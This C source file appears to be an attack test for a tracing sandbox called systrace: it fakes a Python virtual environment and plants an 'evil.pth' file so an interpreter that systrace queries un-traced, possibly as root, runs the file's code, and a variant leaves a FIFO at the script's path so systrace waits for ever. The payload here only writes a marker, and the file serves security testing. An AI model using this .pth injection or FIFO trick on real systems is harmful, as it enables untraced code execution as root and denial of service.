/* learn_asked.c: code of the program's run by systrace itself, after learning.
 *
 * After a learning run systrace asks the Python interpreters that ran where their libraries
 * are (python -I -c 'print(sys.path)'), un-traced, if the system installed them (owned by
 * root, in a directory likewise).  A script is asked through its #! line.  The program
 * writes a script whose #! names the system's python through a link of its own to /usr/bin
 * (DIR/link/python3): the interpreter and its directory are the system's.  But Python looks
 * for a virtual environment's pyvenv.cfg one directory above the path it was started by --
 * DIR, the program's -- and runs the .pth files of that environment's site-packages, -I or
 * not.  The .pth ran as whoever started systrace (root, under -c), traced by nobody.
 *
 *   learn_asked DIR VERSION     set the scene (VERSION: "3.11"), run the script
 *   learn_asked DIR check       ESCAPED when an isolated interpreter ran the .pth
 *   learn_asked DIR VERSION fifo   ... then a FIFO at the script's name: systrace read the
 *                                  #! line of what was there at the end, and waited for
 *                                  a writer for ever (no policy written)
 */
#include "attack.h"

static void put(const char *file, const char *text, mode_t mode) {
    int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, mode);
    if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text) || close(fd) != 0)
        blocked("could not write %s: %s", file, ename(errno));
}

int main(int argc, char **argv) {
    if (argc < 3)
        blocked("usage: learn_asked DIR VERSION|check");
    const char *dir = argv[1];
    char path[4096], text[4096];
    snprintf(path, sizeof path, "%s/ASKED", dir);
    if (!strcmp(argv[2], "check")) {
        FILE *f = fopen(path, "r");
        if (!f)
            blocked("no isolated interpreter ran the program's .pth");
        char line[256] = {0};
        if (!fgets(line, sizeof line, f))
            line[0] = 0;
        escaped("an isolated interpreter ran the program's .pth: %s", line);
    }
    snprintf(path, sizeof path, "%s/link", dir);
    if (symlink("/usr/bin", path) < 0 && errno != EEXIST)
        blocked("symlink: %s", ename(errno));
    snprintf(path, sizeof path, "%s/pyvenv.cfg", dir);
    put(path, "home = /usr/bin\n", 0644);
    const char *parts[] = {"lib", NULL, "site-packages"};
    char sub[4096];
    snprintf(sub, sizeof sub, "%s", dir);
    for (int i = 0; i < 3; i++) {
        char name[64];
        snprintf(name, sizeof name, "%s", parts[i] ? parts[i] : "python");
        if (!parts[i])
            snprintf(name, sizeof name, "python%s", argv[2]);
        size_t len = strlen(sub);
        snprintf(sub + len, sizeof sub - len, "/%s", name);
        if (mkdir(sub, 0755) < 0 && errno != EEXIST)
            blocked("mkdir %s: %s", sub, ename(errno));
    }
    snprintf(path, sizeof path, "%s/evil.pth", sub);
    snprintf(text, sizeof text,
             "import os, sys; sys.flags.isolated and open('%s/ASKED', 'w')"
             ".write('isolated interpreter, uid ' + str(os.getuid()) + '\\n')\n", dir);
    put(path, text, 0644);
    snprintf(path, sizeof path, "%s/s.py", dir);
    snprintf(text, sizeof text, "#!%s/link/python3\nprint('note: the script ran')\n", dir);
    put(path, text, 0755);
    pid_t pid = fork();
    if (pid == 0) {
        execl(path, path, (char *)NULL);
        _exit(127);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    if (argc > 3 && !strcmp(argv[3], "fifo")) {  /* the script's name a FIFO by the end */
        if (unlink(path) < 0 || mkfifo(path, 0644) < 0)
            blocked("mkfifo %s: %s", path, ename(errno));
    }
    blocked("the scene is set, the script exited %d", WEXITSTATUS(status));
}
